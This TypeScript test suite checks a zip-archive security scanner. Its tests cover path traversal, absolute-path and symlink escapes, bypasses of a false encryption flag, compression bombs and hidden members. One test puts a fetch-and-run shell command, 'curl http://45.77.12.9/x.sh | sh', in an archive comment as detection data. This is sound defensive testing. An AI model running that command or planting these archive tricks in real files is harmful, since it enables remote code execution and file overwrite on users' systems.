// The zip scanner through the public scan(): each test builds one attack and asserts the rule, the
// severity, the location and whether the scan stayed complete.
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { deflateSync } from 'fflate';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { encodeUtf8 } from '../../src/engine/io/text';
import { buildZip, nestedZip, SYMLINK_ATTRS, type ZipSpec } from '../builders/zip';

const run = (spec: ZipSpec | Uint8Array, name = 'x.zip', opts = {}) =>
  scan(fromBytes(spec instanceof Uint8Array ? spec : buildZip(spec), name), opts);
const fixture = (p: string) => scan(fromBytes(new Uint8Array(readFileSync(`fixtures/zip/${p}`)), p.split('/').pop()!));
const rules = (r: FileReport) => r.findings.map((f) => f.ruleId);
const find = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);
const nodePaths = (r: FileReport) => r.nodes.map((n) => n.path.join(' > '));

describe('zip scanner: real archives (fixtures/zip)', () => {
  it('finds nothing in a zipped model folder and scans every file member', async () => {
    const r = await fixture('benign/model-folder.zip');
    expect(r.format).toBe('zip');
    expect(r.findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(r.findings.filter((f) => f.location.path.length === 1)).toEqual([]);
    expect(r.complete).toBe(true);
    expect(nodePaths(r)).toEqual(['model-folder.zip', 'model-folder.zip > model/config.json', 'model-folder.zip > model/weights.bin']);
    expect(r.nodes[0]!.notes).toMatchObject({ members: 3, methods: { '0': 2, '8': 1 }, comment: 'exported by generate.py' });
  });

  it('flags a zip-slip member as CRITICAL path traversal, naming it', async () => {
    const r = await fixture('malicious/zip-slip.zip');
    const [hit] = find(r, 'archive/path-traversal');
    expect(hit).toMatchObject({ severity: 'critical', location: { path: ['zip-slip.zip'], pointer: 'model/../../../home/user/.bashrc' } });
    expect(r.complete).toBe(true);
  });

  it('flags an absolute member path as CRITICAL', async () => {
    const r = await fixture('malicious/absolute-path.zip');
    expect(find(r, 'archive/absolute-path')[0]).toMatchObject({ severity: 'critical', evidence: '/etc/cron.d/model-update' });
  });

  it('judges zipfile-made symlinks: /etc target and ../ escape CRITICAL, a sibling link INFO', async () => {
    const r = await fixture('malicious/symlink.zip');
    const escapes = find(r, 'archive/symlink-escape');
    expect(escapes.map((f) => [f.location.pointer, f.severity])).toEqual([['model/passwd', 'critical'], ['model/up', 'critical']]);
    expect(escapes[0]!.message).toContain('/etc');
    expect(find(r, 'archive/symlink').map((f) => [f.location.pointer, f.severity])).toEqual([['model/sibling', 'info']]);
    expect(nodePaths(r)).not.toContain('symlink.zip > model/passwd'); // a link's data is a path, not content
  });

  it('reports a member encrypted by Info-ZIP as INFO, does not scan it, and marks the scan incomplete', async () => {
    const r = await fixture('benign/encrypted.zip');
    expect(find(r, 'archive/encrypted-member')).toMatchObject([{ severity: 'info', location: { pointer: 'secret.txt' } }]);
    expect(r.findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(r.complete).toBe(false);
    expect(r.nodes.map((n) => n.path.length)).toEqual([1]);
  });

  it('reports duplicate member names and scans both copies', async () => {
    const r = await fixture('malicious/duplicate-names.zip');
    expect(find(r, 'archive/duplicate-name')).toMatchObject([{ severity: 'warning', location: { pointer: 'data.pkl' } }]);
    expect(r.nodes.filter((n) => n.path.length === 2 && n.path[1] === 'data.pkl')).toHaveLength(2);
  });

  it('reaches into a nested zip: the inner traversal is located at [outer, inner member]', async () => {
    const r = await fixture('malicious/nested.zip');
    expect(find(r, 'archive/path-traversal')[0]).toMatchObject({ severity: 'critical',
      location: { path: ['nested.zip', 'inner/inner.zip'], pointer: '../evil.bin' } });
    expect(nodePaths(r)).toContain('nested.zip > inner/inner.zip > ../evil.bin');
  });

  it('produces schema-valid reports for every fixture', async () => {
    const { reportProblems } = await import('../helpers/schema');
    const { scanReport } = await import('../../src/engine');
    const files = ['benign/model-folder.zip', 'benign/encrypted.zip', 'malicious/zip-slip.zip', 'malicious/absolute-path.zip',
      'malicious/symlink.zip', 'malicious/duplicate-names.zip', 'malicious/nested.zip', 'malformed/truncated.zip'];
    const reports = await Promise.all(files.map(fixture));
    const report = scanReport(reports, { startedAt: new Date().toISOString(), durationMs: 1, options: {} });
    expect(reportProblems(JSON.parse(JSON.stringify(report)))).toEqual([]);
  });

  it('reports a truncated archive as malformed (incomplete), not malicious', async () => {
    const r = await fixture('malformed/truncated.zip');
    expect(rules(r)).toEqual(['format/malformed']);
    expect(r.complete).toBe(false);
  });
});

describe('zip scanner: hand-built attacks', () => {
  it('catches traversal that only escapes after resolution, and backslash traversal', async () => {
    const r = await run({ members: [{ name: 'a/../../x', data: '1' }, { name: 'b\\..\\..\\y', data: '2' }, { name: 'c/../ok', data: '3' }] });
    const hits = find(r, 'archive/path-traversal').map((f) => [f.location.pointer, f.severity]);
    expect(hits).toEqual([['a/../../x', 'critical'], ['b\\..\\..\\y', 'critical'], ['c/../ok', 'warning']]);
  });

  it('flags drive-letter and UNC member names as absolute', async () => {
    const r = await run({ members: [{ name: 'C:\\Windows\\System32\\x.dll', data: '1' }, { name: '\\\\server\\share\\y', data: '2' }] });
    expect(find(r, 'archive/absolute-path').map((f) => f.severity)).toEqual(['critical', 'critical']);
  });

  it('scans a plain member whose encryption flag is set (picklescan bypass) and says so', async () => {
    // A real (empty-dict, protocol 2) pickle: the member is parsed as one now that the flag is seen through.
    const r = await run({ members: [{ name: 'model/data.pkl', data: new Uint8Array([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e]), flags: 1 }] });
    expect(find(r, 'archive/false-encryption-flag')[0]).toMatchObject({ severity: 'warning', location: { pointer: 'model/data.pkl' } });
    expect(nodePaths(r)).toContain('x.zip > model/data.pkl');
    expect(r.complete).toBe(true);
  });

  it('sees through the encryption flag on a deflated plain member too', async () => {
    const r = await run({ members: [{ name: 'data.pkl', data: 'plain '.repeat(50), method: 8, flags: 0x41 }] });
    expect(rules(r)).toContain('archive/false-encryption-flag');
    expect(nodePaths(r)).toContain('x.zip > data.pkl');
  });

  it('reports a CRC mismatch as WARNING and still scans the member', async () => {
    const r = await run({ members: [{ name: 'data.pkl', data: 'tampered', crc: 0x12345678 }] });
    expect(find(r, 'archive/crc-mismatch')[0]).toMatchObject({ severity: 'warning', evidence: expect.stringContaining('declared 12345678') });
    expect(nodePaths(r)).toContain('x.zip > data.pkl');
  });

  it('reports a local name that differs from the central directory (parser differential)', async () => {
    const r = await run({ members: [{ name: 'data.pkl', localName: 'datap.kl', data: 'x' }] });
    expect(find(r, 'archive/name-mismatch')[0]).toMatchObject({ severity: 'warning', evidence: 'local name: datap.kl' });
  });

  it('judges a deflate bomb (64 MiB of zeros) by its declared ratio and inflates only a prefix, incomplete', async () => {
    const bomb = deflateSync(new Uint8Array(64 * 1024 * 1024), { level: 9 });
    const r = await run({ members: [{ name: 'zeros.bin', method: 8, compressed: bomb, uncompressedSize: 64 * 1024 * 1024 }] });
    expect(find(r, 'archive/compression-bomb')[0]).toMatchObject({ severity: 'warning', location: { pointer: 'zeros.bin' },
      message: expect.stringContaining('only its first 16 MiB were inflated and scanned') });
    expect(r.complete).toBe(false);
    expect(r.nodes[1]!.size).toBeLessThanOrEqual(16 * 1024 * 1024);
  });

  it('reports overlapping members (overlapping-files bomb)', async () => {
    const r = await run({ members: [{ name: 'kernel', data: 'k'.repeat(64), method: 8 },
      ...Array.from({ length: 3 }, (_, i) => ({ name: `copy${i}`, reuseLocalOf: 0 }))] });
    expect(find(r, 'archive/overlapping-members').length).toBe(3);
  });

  it('inflates the kernel of an overlapping-files bomb once, not once per alias', async () => {
    const kernel = deflateSync(new Uint8Array(32 * 1024 * 1024), { level: 9 });
    const r = await run({ members: [{ name: 'k0', method: 8, compressed: kernel, uncompressedSize: 32 * 1024 * 1024 },
      ...Array.from({ length: 40 }, (_, i) => ({ name: `k${i + 1}`, reuseLocalOf: 0 }))] });
    expect(find(r, 'archive/compression-bomb')).toHaveLength(1);
    expect(find(r, 'archive/overlapping-members').length).toBeGreaterThan(0);
    expect(r.nodes.length).toBe(2); // the root and the kernel's prefix; the aliases are not opened
    expect(r.complete).toBe(false);
  });

  it('reports unsupported methods (bzip2) as WARNING, unscanned and incomplete', async () => {
    const r = await run({ members: [{ name: 'w.bin', method: 12, data: 'BZh9...' }] });
    expect(find(r, 'archive/unsupported-method')[0]).toMatchObject({ severity: 'warning', message: expect.stringContaining('bzip2') });
    expect(r.complete).toBe(false);
  });

  it('scans bytes hidden between members and after the end record through the fallback', async () => {
    const z = buildZip({ gapAfter: { 0: encodeUtf8('smuggled') }, members: [{ name: 'a', data: '1' }, { name: 'b', data: '2' }],
      trailing: encodeUtf8('appended') });
    const r = await run(z, 'x.bin');
    const hidden = find(r, 'archive/hidden-data');
    expect(hidden.map((f) => [f.severity, f.location.offset])).toEqual([['warning', 32], ['warning', z.length - 8]]);
    expect(nodePaths(r)).toEqual(expect.arrayContaining(['x.bin > [bytes 32-40]', `x.bin > [bytes ${z.length - 8}-${z.length}]`]));
  });

  it('names and scans a member that only a local header shows (left out of the central directory)', async () => {
    const r = await run({ members: [{ name: 'a.txt', data: 'a' }, { name: 'ghost.pkl', data: 'hidden payload', hiddenFromCentral: true }, { name: 'b.txt', data: 'b' }] });
    expect(find(r, 'archive/hidden-data')[0]).toMatchObject({ evidence: 'ghost.pkl', location: { pointer: 'ghost.pkl' } });
    expect(nodePaths(r)).toContain('x.zip > ghost.pkl');
    const two = await run({ members: [{ name: 'a.txt', data: 'a' }, { name: 'g1', data: 'one', hiddenFromCentral: true },
      { name: 'g2', data: 'two', method: 8, hiddenFromCentral: true }], gapAfter: { 2: encodeUtf8('tail bytes') } });
    expect(find(two, 'archive/hidden-data').map((f) => f.location.pointer ?? f.message)).toEqual(['g1', 'g2', '10 bytes between members belong to no member']);
    expect(nodePaths(two)).toEqual(expect.arrayContaining(['x.zip > g1', 'x.zip > g2']));
  });

  it('stops at maxMembers with too-many-members and scans only the first N', async () => {
    const r = await run({ members: Array.from({ length: 12 }, (_, i) => ({ name: `m${i}`, data: 'x' })) }, 'x.zip', { limits: { maxMembers: 10 } });
    expect(find(r, 'archive/too-many-members')).toHaveLength(1);
    expect(r.nodes.length).toBe(11);
    expect(r.complete).toBe(false);
  });

  it('stops a zip nested 7 deep at the depth limit', async () => {
    const r = await run(nestedZip(7, { name: 'leaf.txt', data: 'deep' }), 'deep.zip');
    const deep = find(r, 'archive/nesting-too-deep');
    expect(deep).toHaveLength(1);
    expect(deep[0]!.location.path).toHaveLength(7); // root + 5 levels opened + the one refused
    expect(r.complete).toBe(false);
  });

  it('matches the blacklist against member names (checked by the orchestrator per child)', async () => {
    const r = await run({ members: [{ name: 'payloads/evil_loader.bin', data: 'x' }] }, 'x.zip', { blacklist: ['*evil_*'] });
    expect(find(r, 'supply-chain/blacklisted-name')[0]).toMatchObject({ severity: 'critical', location: { path: ['x.zip', 'payloads/evil_loader.bin'] } });
  });

  it('runs the archive comment through the string detectors: a link is INFO, a shell command is not', async () => {
    const r = await run({ members: [{ name: 'a', data: '1' }], comment: 'Made by https://model-tools.xyz/m' });
    expect(r.nodes[0]!.notes?.comment).toBe('Made by https://model-tools.xyz/m');
    expect(r.findings.filter((f) => f.location.pointer === 'comment').map((f) => [f.ruleId, f.severity])).toEqual([['strings/url', 'info']]);
    const cmd = await run({ members: [{ name: 'a', data: '1' }], comment: 'curl http://45.77.12.9/x.sh | sh' });
    expect(cmd.findings.find((f) => f.ruleId === 'strings/shell-command')?.location).toEqual({ path: ['x.zip'], pointer: 'comment' });
  });

  it('accepts an empty archive (only an end record) as a clean zip', async () => {
    const r = await run({ members: [] }, 'empty.zip');
    expect(r.format).toBe('zip');
    expect(r.findings).toEqual([]);
    expect(r.complete).toBe(true);
  });
});
